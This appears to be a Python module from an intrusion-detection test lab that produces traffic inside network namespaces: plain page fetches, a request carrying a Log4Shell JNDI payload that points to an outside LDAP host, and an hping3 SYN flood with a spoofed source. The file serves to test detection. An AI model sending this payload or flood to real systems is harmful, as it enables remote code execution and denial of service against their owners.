"""Who sends packets in the lab: clients that fetch pages, honestly or not, and a flooder."""

from __future__ import annotations

import shutil
import socket
import sys
import time
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from ids.lab.namespace import Namespace
from ids.lab.topology import FLOODER, LINK, SERVER, SERVER6, Lab
from ids.lab.website import PORT

ANSWER_LIMIT = 1 << 20
"""Bytes of an answer that a client reads; the pages are far smaller."""


@dataclass(frozen=True, slots=True)
class Request:
    """An HTTP request as it goes out, nothing normalised on the way."""

    name: str
    target: str
    headers: Mapping[str, str] = field(default_factory=dict)

    def encode(self) -> bytes:
        """Return the bytes of the request; the connection closes after the answer."""
        headers = {"Host": "shop.example", "User-Agent": "curl/8.5.0", "Accept": "*/*", "Connection": "close"}
        headers.update(self.headers)
        lines = [f"GET {self.target} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()


@dataclass(frozen=True, slots=True)
class Answer:
    """What a client got."""

    status: int
    """HTTP status; 0 where the answer was none."""
    length: int
    """Bytes of the whole answer."""
    took_ms: float
    """From the first SYN to the end of the answer."""


PAGE = Request("a page", "/index.html")
LOG4SHELL = Request(
    "Log4Shell (CVE-2021-44228)", "/index.html", {"User-Agent": "${jndi:ldap://198.51.100.66:1389/Exploit}"}
)


def connect(namespace: Namespace, source: str, timeout_s: float = 3.0, target: str = "") -> socket.socket:
    """Open a connection from an address of a namespace to the web server, or to port 80 of another target.

    Raises OSError where there is none.
    """
    version6 = ":" in source
    connection = namespace.socket(socket.AF_INET6 if version6 else socket.AF_INET, socket.SOCK_STREAM)
    try:
        connection.settimeout(timeout_s)
        connection.bind((source, 0))
        connection.connect((target or (SERVER6 if version6 else SERVER), PORT))
    except BaseException:
        connection.close()
        raise
    return connection


def fetch(namespace: Namespace, source: str, request: Request, timeout_s: float = 3.0, target: str = "") -> Answer:
    """Send a request to the web server, or another, and read the whole answer; raises OSError where none comes."""
    start = time.monotonic()
    with connect(namespace, source, timeout_s, target) as connection:
        connection.sendall(request.encode())
        answer = b""
        while len(answer) < ANSWER_LIMIT and (data := connection.recv(65536)):
            answer += data
    words = answer[:64].split(b" ", 2)
    status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
    return Answer(status, len(answer), (time.monotonic() - start) * 1e3)


@contextmanager
def syn_flood(lab: Lab) -> Iterator[str]:
    """Send SYNs from `FLOODER` as fast as they go while the context lasts; gives the name of what sends them."""
    hping3 = shutil.which("hping3", path="/usr/sbin:/usr/local/sbin:/usr/bin:/usr/local/bin")
    if hping3 is not None:
        command = [hping3, "--flood", "-q", "-S", "-p", str(PORT), "-a", FLOODER, "-I", LINK, SERVER]
        software = "hping3"
    else:
        command = [sys.executable, str(Path(__file__).with_name("flood.py")), FLOODER, SERVER, str(PORT)]
        software = "a Python sender, because hping3 is not installed"
    process = lab.spawn(lab.attacker, command, "flood.log")
    try:
        yield software
    finally:
        lab.stop(process)


def sent_packets(namespace: Namespace, interface: str = LINK) -> int:
    """Return how many packets an interface has sent since it exists."""
    with namespace.entered():
        text = Path("/proc/thread-self/net/dev").read_text()
    for line in text.splitlines():
        name, colon, counts = line.partition(":")
        if colon and name.strip() == interface:
            return int(counts.split()[9])
    raise ValueError(f"{namespace.name} has no interface {interface}")
